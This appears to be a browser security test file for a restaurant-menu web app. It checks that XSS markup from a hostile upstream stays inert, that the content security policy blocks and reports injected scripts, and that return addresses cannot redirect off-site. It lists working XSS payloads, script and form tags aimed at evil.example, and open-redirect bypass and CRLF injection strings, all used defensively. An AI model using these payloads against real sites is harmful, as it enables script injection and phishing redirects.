/** Attacks that only a browser can judge: scripts that must not run, addresses that must not lead elsewhere (S-09 to
 * S-11, S-23). Before the product stands a relay that answers as a hostile upstream would. */
import assert from 'node:assert/strict'
import { mkdtemp, rm } from 'node:fs/promises'
import http from 'node:http'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, before, test } from 'node:test'
import {
  findTable,
  hydrated,
  launch,
  open,
  PATIENCE,
  startProduct,
  startServe,
  untilTrue,
} from './harness.mjs'
import { relay } from './relay.mjs'

const MARKUP = '</script><script>window.hit=1</script><!--<script>\u2028<img src=x onerror="window.hit=2">'
const LINK = 'javascript:window.hit=3'

let product, browser, menu, upstream, serve, state

before(async () => {
  product = await startProduct()
  browser = await launch()
  menu = `/filials/${(await findTable(product)).filial_id}`
  upstream = await relay(product.sandbox, answerHostile)
  state = await mkdtemp(path.join(tmpdir(), 'dastarkhan-'))
  serve = await startServe(`http://127.0.0.1:${upstream.address().port}`, state)
})
after(async () => {
  await browser?.close()
  serve?.child.kill('SIGKILL')
  upstream?.closeAllConnections()
  upstream?.close()
  await product?.stop()
  if (state) await rm(state, { recursive: true, force: true })
})

/** Every text of the upstream becomes markup, every link of a venue a script. */
function hostile(value, key = '') {
  if (Array.isArray(value)) return value.map((one) => hostile(one, key))
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, hostile(one, name)]))
  }
  if (typeof value !== 'string') return value
  if (key === 'link') return LINK
  const texts = ['name', 'brand_name', 'address', 'description', 'message', 'schedule', 'phone', 'weight']
  return texts.includes(key) ? `${value} ${MARKUP}` : value
}

const answerHostile = (body, type) =>
  type.includes('json') ? JSON.stringify(hostile(JSON.parse(body.toString()))) : body

/** A page of its own context, with what it reported and opened. */
async function visit(web, options = {}) {
  const context = await browser.newContext({ baseURL: web, ...options })
  const page = await context.newPage()
  const dialogs = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    dialog.dismiss()
  })
  return { context, page, dialogs }
}

for (const javaScriptEnabled of [true, false]) {
  test(`texts and links of a hostile upstream are inert, scripts ${javaScriptEnabled ? 'on' : 'off'}`, async () => {
    for (const address of ['/', '/filials', menu, `${menu}/details`]) {
      const { context, page, dialogs } = await visit(serve.web, { javaScriptEnabled })
      const answer = await open(page, address)
      assert.equal(answer.status(), 200, address)
      if (javaScriptEnabled) await hydrated(page)
      const html = await answer.text()
      assert.ok(html.includes('window.hit'), `${address} shows what the upstream said`)
      const found = await scripts(html)
      const structured = found.filter((type) => type === 'application/ld+json').length
      assert.deepEqual(
        found.filter((type) => type !== 'application/ld+json'),
        ['', 'application/json', 'module'],
        `${address}: early taps, data, entry`,
      )
      assert.ok(structured >= 1, `${address} has structured data that could have been left`)
      if (javaScriptEnabled) {
        assert.equal(await page.evaluate(() => window.hit), undefined, address)
        assert.equal(await page.locator('[onerror], [onclick], [onload]').count(), 0)
      }
      assert.equal(await page.locator('a[href^="javascript" i]').count(), 0, address)
      const schemes = await page
        .locator('a[href]')
        .evaluateAll((links) => [...new Set(links.map((link) => link.protocol))])
      assert.deepEqual(
        // `geo:` is made here, of two numbers.
        schemes.filter((scheme) => !['http:', 'https:', 'tel:', 'geo:'].includes(scheme)),
        [],
        address,
      )
      assert.deepEqual(dialogs, [])
      await context.close()
    }
  })
}

/** Types of the script elements that Chromium's own parser finds; nothing of it runs. */
async function scripts(html) {
  const { context, page } = await visit(product.web)
  await page.goto('about:blank')
  const types = await page.evaluate((text) => {
    const parsed = new DOMParser().parseFromString(text, 'text/html')
    for (const data of parsed.querySelectorAll('script[type$="json"]')) JSON.parse(data.textContent)
    return [...parsed.querySelectorAll('script')].map((script) => script.type)
  }, html)
  await context.close()
  return types
}

const ATTACK = [
  '<script>window.inline=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src="data:text/javascript,window.fromData=1"></script>',
  '<img alt="" src="/none.png" onerror="window.handler=1">',
  '<a id="attack" href="javascript:void(window.link=1)">x</a>',
  '<base href="https://evil.example/">',
  '<object data="/favicon.svg"></object>',
  '<form id="leak" action="https://evil.example/"><input name="x"></form>',
].join('')

/** The product behind somebody who writes into its pages. */
function injector(withPolicy) {
  const server = http.createServer(async (request, response) => {
    try {
      const parts = []
      for await (const part of request) parts.push(part)
      const { connection, host, 'accept-encoding': packed, ...headers } = request.headers
      const body = parts.length > 0 ? Buffer.concat(parts) : undefined
      const answer = await fetch(product.web + request.url, { method: request.method, headers, body })
      const told = Object.fromEntries(answer.headers)
      for (const name of ['content-encoding', 'content-length', 'transfer-encoding']) delete told[name]
      if (!withPolicy) delete told['content-security-policy']
      const bytes = Buffer.from(await answer.arrayBuffer())
      const isPage = told['content-type']?.startsWith('text/html')
      response.writeHead(answer.status, told)
      response.end(isPage ? bytes.toString().replace('</body>', `${ATTACK}</body>`) : bytes)
    } catch (error) {
      response.writeHead(502)
      response.end(String(error))
    }
  })
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)))
}

/** Opens a page into which somebody wrote. */
async function injected(withPolicy) {
  const server = await injector(withPolicy)
  const web = `http://127.0.0.1:${server.address().port}`
  const visited = await visit(web)
  const { page } = visited
  const reports = []
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/csp-report') reports.push(request.postData() ?? '')
  })
  const done = async () => {
    await visited.context.close()
    server.closeAllConnections()
    server.close()
  }
  await open(page, menu)
  await page.locator('#attack').evaluate((link) => link.click())
  const hits = () =>
    page.evaluate(() => ({
      inline: window.inline,
      fromData: window.fromData,
      handler: window.handler,
      link: window.link,
    }))
  return { page, web, hits, reports, done }
}

test('an injected script, handler or javascript: link does not run and is reported', async () => {
  const { page, web, hits, reports, done } = await injected(true)
  const isReported = (directive) => reports.some((one) => one.includes(directive))
  for (const directive of ['script-src', 'base-uri', 'object-src'])
    await untilTrue(() => isReported(directive), PATIENCE, `${directive} is reported`)
  assert.deepEqual(Object.values(await hits()).filter(Boolean), [])
  assert.equal(await page.evaluate(() => document.baseURI.startsWith(location.origin)), true)
  await page.locator('#leak').evaluate((form) => form.submit())
  await untilTrue(() => isReported('form-action'), PATIENCE, 'form-action is reported')
  assert.equal(new URL(page.url()).origin, web, 'no form leads elsewhere')
  await untilTrue(async () => {
    const metrics = await (await fetch(`${product.admin}/metrics`)).text()
    return /csp_reports_total\{[^}]*script-src[^}]*\} [1-9]/.test(metrics)
  })
  await done()
})

test('without the policy the same attack would run', async () => {
  const { hits, done } = await injected(false)
  await untilTrue(async () => (await hits()).handler === 1)
  assert.deepEqual(await hits(), { inline: 1, fromData: 1, handler: 1, link: 1 })
  await done()
})

const TRICKS = [
  '//evil.example',
  '/\\evil.example',
  '/%2f%2fevil.example',
  '/%5cevil.example',
  '\t//evil.example',
  '\n//evil.example',
  '/\t/evil.example',
  'https:evil.example',
  'https://us@evil.example',
  'javascript:alert(1)',
  '/.//evil.example',
  '/..//evil.example',
  '/%2e%2e//evil.example',
  '//evil.example/%2e%2e',
  '\\\\evil.example',
  '/x\r\nLocation: https://evil.example',
]

test('no way back leads to another origin, in Chromium', async () => {
  const { context, page } = await visit(product.web)
  const origin = new URL(product.web).origin
  await page.route(
    (url) => url.origin !== origin,
    (route) => route.fulfill({ body: 'evil' }),
  )
  for (const back of TRICKS) {
    await open(page, '/faq')
    await page.evaluate((value) => {
      const form = document.createElement('form')
      form.method = 'post'
      form.action = '/session/service'
      for (const [name, text] of Object.entries({ service: 'express', back: value })) {
        const field = document.createElement('textarea')
        field.name = name
        field.value = text
        form.append(field)
      }
      document.body.append(form)
      form.submit()
    }, back)
    await page.waitForURL((url) => url.pathname !== '/faq')
    assert.equal(new URL(page.url()).origin, origin, JSON.stringify(back))
    // The login's and the picker's ways back are the same function.
    for (const name of ['/town', '/language']) {
      await open(page, `${name}?back=${encodeURIComponent(back)}`)
      const foreign = await page.locator('a[href], form[action]').evaluateAll((all) =>
        all
          .map((one) => one.href ?? one.action)
          .filter((to) => {
            const { protocol, host } = new URL(to)
            return protocol === 'javascript:' || host.includes('evil')
          }),
      )
      assert.deepEqual(foreign, [], `${name} ${JSON.stringify(back)}`)
    }
  }
  for (const address of [
    '//evil.example',
    '//evil.example/%2e%2e',
    '/%5cevil.example',
    '/.//evil.example//',
  ]) {
    await page.goto(product.web + address, { waitUntil: 'domcontentloaded' })
    assert.equal(new URL(page.url()).origin, origin, address)
  }
  await context.close()
})
